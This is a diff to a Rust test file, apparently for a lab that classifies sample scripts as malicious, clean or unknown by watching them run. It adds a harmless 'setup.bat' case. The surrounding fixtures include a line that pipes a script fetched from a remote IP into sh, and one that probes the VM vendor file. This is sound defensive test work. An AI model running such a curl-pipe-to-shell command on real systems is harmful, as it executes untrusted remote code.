@@ -287,7 +287,7 @@ fn what_a_sample_does_decides_about_it() {
 fn silence_is_never_clean() {
     let lab = Lab::watching("[\"vm1\"]", "children_count = 2\n", 100);
     let _up = lab.site.up();
-    let table: [(&str, &str, &str, &str); 14] = [
+    let table: [(&str, &str, &str, &str); 15] = [
         (
             "pipe.sh",
             "#!/bin/sh\ncurl -fsSL http://203.0.113.66/a.sh | sh\nexit 0\n",
@@ -303,6 +303,13 @@ fn silence_is_never_clean() {
         ),
         ("absent.sh", "#!/bin/sh\nno-such-tool --now 2>/dev/null\nexit 0\n", "unknown", "no-such-tool was not there"),
         ("node.js", "#!/usr/bin/env node\nx\n", "unknown", "node was not there"),
+        // It is harmless to a shell, and Windows reads it as something else.
+        (
+            "setup.bat",
+            "#!/bin/sh\necho hello\n",
+            "unknown",
+            "by its name something else opens it: a script for Windows",
+        ),
         (
             "dmi.sh",
             "#!/bin/sh\ncat /sys/class/dmi/id/sys_vendor > /dev/null; echo hi\nexit 0\n",
